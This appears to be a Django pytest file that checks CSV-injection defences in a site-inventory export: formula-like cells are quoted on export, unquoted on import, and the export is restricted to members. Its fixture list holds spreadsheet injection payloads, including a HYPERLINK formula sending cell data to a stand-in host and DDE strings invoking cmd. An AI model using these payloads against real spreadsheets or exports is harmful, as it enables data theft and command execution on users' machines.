"""CSV exports reach spreadsheets: a cell that would run as a formula is exported as text (issue #9, item 4).

OWASP's CSV injection advice: prefix `'` to cells starting with `=`, `+`, `-`, `@`, tab or CR
(frontend.transfer.formula_guard). Our own import takes exactly that `'` off again, so an export
still imports as it is (frontend.transfer.formula_unguard).
"""

import csv
import io

import pytest
from django.test import Client

from frontend.transfer import formula_guard, formula_unguard
from inventory.models import Site
from tenants.context import tenant_context

LIST = "/o/org-a/dcim/sites/"
IMPORT = "/o/org-a/dcim/sites/import/"
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export_rows(client) -> list[dict]:
    response = client.get(f"{LIST}?export=csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.fixture
def dangerous_sites(org_a):
    with tenant_context(org_a.organization):
        for n, name in enumerate(DANGEROUS):
            Site.objects.create(name=name, slug=f"s{n}", description=name, latitude="-33.868800")
    return DANGEROUS


def test_formula_cells_are_exported_as_text(org_a, dangerous_sites):
    rows = export_rows(org_a.client())

    by_slug = {row["slug"]: row for row in rows}
    for n, name in enumerate(dangerous_sites):
        assert by_slug[f"s{n}"]["name"] == "'" + name
        assert by_slug[f"s{n}"]["description"] == "'" + name
        assert by_slug[f"s{n}"]["latitude"] == "-33.868800"  # a plain number is no formula
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "@", "\t", "\r"), value


def test_an_export_imports_back_unchanged(org_a, dangerous_sites):
    # given: the export of sites whose names look like formulas, and values starting with quotes
    with tenant_context(org_a.organization):
        Site.objects.create(name="'=quoted", slug="quoted", description="''+twice")
        Site.objects.create(name="'plain", slug="plain", description="it's")
    owner = org_a.client()
    exported = owner.get(f"{LIST}?export=csv").content.decode()
    with tenant_context(org_a.organization):
        before = {s.slug: (s.name, s.description) for s in Site.objects.all()}
        for site in Site.objects.all():
            Site.objects.filter(pk=site.pk).update(name=f"changed {site.pk}", description="changed")

    # when: it is imported again (its id column updates the same sites)
    response = owner.post(IMPORT, {"data": exported, "format": "csv"})

    # then: every value is what it was
    assert response.status_code == 302, response.content.decode()[:2000]
    with tenant_context(org_a.organization):
        after = {s.slug: (s.name, s.description) for s in Site.objects.all()}
    assert after == {slug: values for slug, values in before.items()}


@pytest.mark.parametrize(
    "value", ["=1", "'=1", "''=1", "'", "'a", "a'", "-1", "-1.5", "-", "--1", "+1", "@", "", "plain", "\t", "it's"]
)
def test_the_guard_is_undone_exactly(value):
    assert formula_unguard(formula_guard(value)) == value


def test_the_export_is_only_for_members(org_a, org_b, dangerous_sites):
    assert Client().get(f"{LIST}?export=csv").status_code == 302  # to the login page
    response = org_b.client().get(f"{LIST}?export=csv")
    assert response.status_code == 404
    assert b"HYPERLINK" not in response.content
